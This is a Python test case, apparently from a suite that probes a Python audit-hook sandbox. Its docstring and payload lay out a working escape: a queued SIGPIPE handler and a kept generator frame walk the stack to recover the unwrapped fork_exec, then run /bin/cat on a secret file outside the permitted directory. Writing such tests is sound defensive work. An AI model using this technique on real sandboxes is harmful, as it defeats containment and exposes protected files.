# rule: expose-ro=.
# expect: api PermissionError

"""Objective: run /bin/cat ../outside/secret.txt as a child process (no process-exec rule, no
python-import rule) with the unwrapped ``_posixsubprocess.fork_exec``, read from its hidden
generator's frame by a signal handler the hook delivers.

The round-3 fix queues a signal that interrupts any guard code, and the hook calls the queued
handlers from its own frame after deleting its names -- unless an outer *hook* is running
below. But a hook can run with other guard frames below it: a wrapper's hidden generator
(``wrappers.hide``'s ``holder``, whose frame holds the original ``fn``; or the one-shot
generator of ``hide_reentrant``, whose ``box`` holds it until the call) raises its audit event
from ``before``; the hook's ``take()`` looks for hook frames only, so it hands the calls out,
and they run -- on the refusal path too -- with ``before`` and ``holder`` on the stack.

1. A generator takes its own frame with ``sys._getframe()`` while no guard frame is a caller
   (allowed) and keeps it.
2. A handler for ``SIGPIPE`` (through ``_signal.signal`` from ``sys.modules``: a trampoline).
   ``posix.write`` to a pipe whose reader is closed makes the signal pending without running
   the eval loop's check (error path); the next Python code to start is the ``fork_exec``
   wrapper, guard code: the trampoline queues the handler.
3. The wrapper enters the holder, whose ``before`` raises ``pysandboxes.call``; the hook
   refuses it, then runs the queued handler. The handler resumes the kept generator: its
   ``f_back`` chain (no audit event) is handler -> ``_hook_body`` -> ``before`` -> ``holder``,
   whose ``f_locals`` (no event) hold ``fn``.
"""

from _harness import attempt


def payload():
    import sys

    posix = sys.modules['posix']
    _signal = sys.modules['_signal']
    module = sys.modules.get('_posixsubprocess')  # loaded by python-sb's wrappers
    if module is None:  # plain python3
        import _posixsubprocess as module
    found = []

    def spy():
        me = sys._getframe()
        while True:
            yield
            frame = me.f_back
            while frame is not None:
                names = frame.f_locals
                if 'fn' in names and 'before' in names:
                    found.append(names['fn'])  # wrappers.hide's holder
                    break
                if names.get('box') and 'before' in names:
                    found.append(names['box'][0])  # native_files.hide_reentrant's one-shot
                    break
                frame = frame.f_back

    walker = spy()
    next(walker)

    def handler(signum, frame):
        if not found:
            next(walker)

    _signal.signal(_signal.SIGPIPE, handler)
    wrapped = module.fork_exec
    for _ in range(3):
        r, w = posix.pipe()
        posix.close(r)
        try:
            posix.write(w, b'x')
        except BrokenPipeError:
            pass
        try:
            wrapped()  # refused (process-exec), or TypeError under plain python3
        except Exception:
            pass
        posix.close(w)
        if found:
            break
    _signal.signal(_signal.SIGPIPE, _signal.SIG_IGN)
    fork_exec = found[0] if found else wrapped  # plain python3: no wrapper
    read_end, write_end = posix.pipe()
    err_read, err_write = posix.pipe()
    pid = fork_exec(
        [b'/bin/cat', b'../outside/secret.txt'], [b'/bin/cat'], True, (write_end, err_write),
        None, None, -1, -1, -1, write_end, -1, -1, err_read, err_write,
        True, False, -1, None, None, None, -1, None, False,
    )
    posix.close(write_end)
    posix.close(err_write)
    posix.waitpid(pid, 0)
    data = posix.read(read_end, 100).decode()
    assert data == 'the secret\n', data
    return data, len(found)


attempt(payload)
